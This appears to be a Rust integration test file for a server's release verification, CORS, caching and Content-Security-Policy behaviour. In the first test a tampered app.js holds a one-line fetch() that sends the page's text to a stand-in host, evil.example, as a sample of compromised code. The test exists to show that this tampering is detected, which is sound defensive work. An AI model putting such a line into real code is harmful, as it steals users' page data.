//! Serving the app from another origin than the API, and checking what an origin
//! serves against the release manifest, against the real server binary.

#[path = "support/backend.rs"]
mod backend;
#[path = "support/server.rs"]
mod server;

use server::TestServer;
use sha2::{Digest, Sha256};

fn sha256_line(path: &str, bytes: &[u8]) -> String {
    let hex: String = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect();
    format!("{hex}  {path}\n")
}

fn verify_release(url: &str, manifest: &std::path::Path) -> (bool, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_quietdesk-server"))
        .args(["verify-release", url, manifest.to_str().unwrap()])
        .output()
        .unwrap();
    (out.status.success(), String::from_utf8_lossy(&out.stdout).into_owned())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verify_release_passes_the_released_files_and_names_a_changed_one() {
    let app = tempfile::tempdir().unwrap();
    let files: [(&str, &[u8]); 3] = [
        ("index.html", b"<!doctype html><title>Quietdesk</title>"),
        ("app.js", b"console.log(1)"),
        ("icons/i.svg", b"<svg/>"),
    ];
    std::fs::create_dir_all(app.path().join("icons")).unwrap();
    let mut manifest = String::new();
    for (path, bytes) in files {
        std::fs::write(app.path().join(path), bytes).unwrap();
        manifest.push_str(&sha256_line(path, bytes));
    }
    let kept = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(kept.path(), &manifest).unwrap();
    let srv = TestServer::start_with(&["--static-dir", app.path().to_str().unwrap()]);

    let (ok, out) = verify_release(&srv.base, kept.path());
    assert!(ok, "{out}");
    assert!(out.contains("4 of 4 files as released"), "{out}");

    // The origin starts serving other code.
    std::fs::write(app.path().join("app.js"), b"fetch('https://evil.example/?' + document.body.innerText)").unwrap();
    let (ok, out) = verify_release(&srv.base, kept.path());
    assert!(!ok, "{out}");
    assert!(out.contains("DIFFERS app.js"), "{out}");
    assert!(!out.contains("DIFFERS index.html"), "{out}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_api_answers_browsers_from_the_configured_app_origin_only() {
    let srv = TestServer::start_with(&["--allow-origin", "https://app.example.com"]);
    let http = reqwest::Client::new();
    let preflight = |origin: &'static str| {
        http.request(reqwest::Method::OPTIONS, format!("{}/api/v1/auth/prelogin", srv.base))
            .header("Origin", origin)
            .header("Access-Control-Request-Method", "POST")
            .header("Access-Control-Request-Headers", "content-type")
            .send()
    };
    let allowed = preflight("https://app.example.com").await.unwrap();
    assert_eq!(
        allowed.headers().get("access-control-allow-origin").and_then(|v| v.to_str().ok()),
        Some("https://app.example.com")
    );
    let other = preflight("https://evil.example").await.unwrap();
    assert!(other.headers().get("access-control-allow-origin").is_none(), "no other origin");
    let plain = http.get(format!("{}/api/v1/health", srv.base)).header("Origin", "https://app.example.com").send();
    let plain = plain.await.unwrap();
    assert_eq!(plain.headers().get("access-control-allow-origin").unwrap(), "https://app.example.com");
}

/// The app as a browser gets it: precompressed copies for the encodings it accepts,
/// hashed assets cached for a year, the rest revalidated; a missing hashed asset is a
/// 404, not HTML cached for a year. And `verify-release` checks the compressed copies as
/// browsers are served them: a changed `.br` is named even though the plain file is intact.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_app_is_served_precompressed_with_cache_rules_and_verified_per_encoding() {
    let app = tempfile::tempdir().unwrap();
    let wasm = "app-6674814350ce274_bg.wasm";
    let files: Vec<(String, Vec<u8>)> = vec![
        ("index.html".into(), b"<!doctype html><title>Quietdesk</title>".to_vec()),
        ("index.html.br".into(), b"brotli bytes of index".to_vec()),
        (wasm.into(), vec![0u8; 4000]),
        (format!("{wasm}.br"), b"brotli bytes of wasm".to_vec()),
        (format!("{wasm}.gz"), b"gzip bytes of wasm".to_vec()),
        ("sw.js".into(), b"self.addEventListener('fetch', () => {})".to_vec()),
    ];
    let mut manifest = String::new();
    for (path, bytes) in &files {
        std::fs::write(app.path().join(path), bytes).unwrap();
        manifest.push_str(&sha256_line(path, bytes));
    }
    let kept = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(kept.path(), &manifest).unwrap();
    let srv = TestServer::start_with(&["--static-dir", app.path().to_str().unwrap()]);
    let http = reqwest::Client::new();
    let get = |path: String, encoding: &'static str| {
        http.get(format!("{}/{path}", srv.base)).header("Accept-Encoding", encoding).send()
    };
    let header = |r: &reqwest::Response, name: &str| {
        r.headers().get(name).map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default()
    };

    let r = get(wasm.into(), "gzip, deflate, br").await.unwrap();
    assert_eq!(header(&r, "content-encoding"), "br");
    assert_eq!(header(&r, "cache-control"), "public, max-age=31536000, immutable");
    assert_eq!(header(&r, "vary"), "accept-encoding");
    assert_eq!(r.bytes().await.unwrap().as_ref(), b"brotli bytes of wasm");
    let r = get(wasm.into(), "gzip").await.unwrap();
    assert_eq!(header(&r, "content-encoding"), "gzip");
    let r = get(wasm.into(), "identity").await.unwrap();
    assert_eq!(header(&r, "content-encoding"), "");
    assert_eq!(r.bytes().await.unwrap().len(), 4000);

    for path in ["", "sw.js", "customers/some-id"] {
        let r = get(path.into(), "br").await.unwrap();
        assert_eq!(r.status(), 200, "/{path}");
        assert_eq!(header(&r, "cache-control"), "no-cache", "/{path}: revalidated");
    }
    let r = get("app-0123456789abcdef_bg.wasm".into(), "br").await.unwrap();
    assert_eq!(r.status(), 404, "an old release's asset is not answered with index.html");

    let (ok, out) = verify_release(&srv.base, kept.path());
    assert!(ok, "{out}");
    // The origin keeps the plain file and changes what brotli-accepting browsers get.
    std::fs::write(app.path().join(format!("{wasm}.br")), b"other code").unwrap();
    let (ok, out) = verify_release(&srv.base, kept.path());
    assert!(!ok, "{out}");
    assert!(out.contains(&format!("DIFFERS {wasm} (br)")), "{out}");
    assert!(!out.contains(&format!("DIFFERS {wasm} (gzip)")), "{out}");
}

/// Every page and script the server sends carries a strict Content-Security-Policy (and
/// the usual security headers): script only from the app's own files and WebAssembly,
/// no plug-ins, no `<base>`, never framed, connections back to this origin only; every
/// file is `nosniff`. API answers allow nothing at all. A page served without the
/// policy fails this test.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_served_page_carries_the_content_security_policy() {
    let app = tempfile::tempdir().unwrap();
    for (path, bytes) in [
        ("index.html", &b"<!doctype html><title>Quietdesk</title>"[..]),
        ("sw.js", b"self.addEventListener('fetch', () => {})"),
        ("start-6674814350ce2741.js", b"import '/app.js'"),
        ("main-c41421086c9844cb.css", b"body{}"),
    ] {
        std::fs::write(app.path().join(path), bytes).unwrap();
    }
    let srv = TestServer::start_with(&["--static-dir", app.path().to_str().unwrap()]);
    let http = reqwest::Client::new();
    let directives = |csp: &str| -> Vec<String> { csp.split(';').map(|d| d.trim().to_owned()).collect() };
    // The pages, the workers' scripts (whose own policy a browser applies) and errors.
    for path in ["", "index.html", "sw.js", "customers/some-id", "app-0123456789abcdef_bg.wasm"] {
        let r = http.get(format!("{}/{path}", srv.base)).send().await.unwrap();
        let h = |name: &str| r.headers().get(name).map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
        let csp = directives(&h("content-security-policy"));
        for wanted in [
            "script-src 'self' 'wasm-unsafe-eval'",
            "object-src 'none'",
            "base-uri 'none'",
            "frame-ancestors 'none'",
            "connect-src 'self'",
            "default-src 'self'",
        ] {
            assert!(csp.iter().any(|d| d == wanted), "/{path}: {wanted} in {csp:?}");
        }
        assert!(!csp.iter().any(|d| d.contains("unsafe-inline") || d.contains("'unsafe-eval'")), "/{path}: {csp:?}");
        assert_eq!(h("x-content-type-options"), "nosniff", "/{path}");
        assert_eq!(h("x-frame-options"), "DENY", "/{path}");
        assert_eq!(h("referrer-policy"), "no-referrer", "/{path}");
    }
    for path in ["main-c41421086c9844cb.css", "start-6674814350ce2741.js"] {
        let r = http.get(format!("{}/{path}", srv.base)).send().await.unwrap();
        assert_eq!(r.headers().get("x-content-type-options").unwrap(), "nosniff", "every file");
    }
    for path in ["api/v1/health", "api/v1/no-such-route"] {
        let r = http.get(format!("{}/{path}", srv.base)).send().await.unwrap();
        let csp = r.headers().get("content-security-policy").map(|v| v.to_str().unwrap().to_owned());
        assert!(csp.is_some_and(|c| directives(&c).contains(&"default-src 'none'".to_owned())), "/{path}");
        assert_eq!(r.headers().get("x-content-type-options").unwrap(), "nosniff", "/{path}");
    }
}
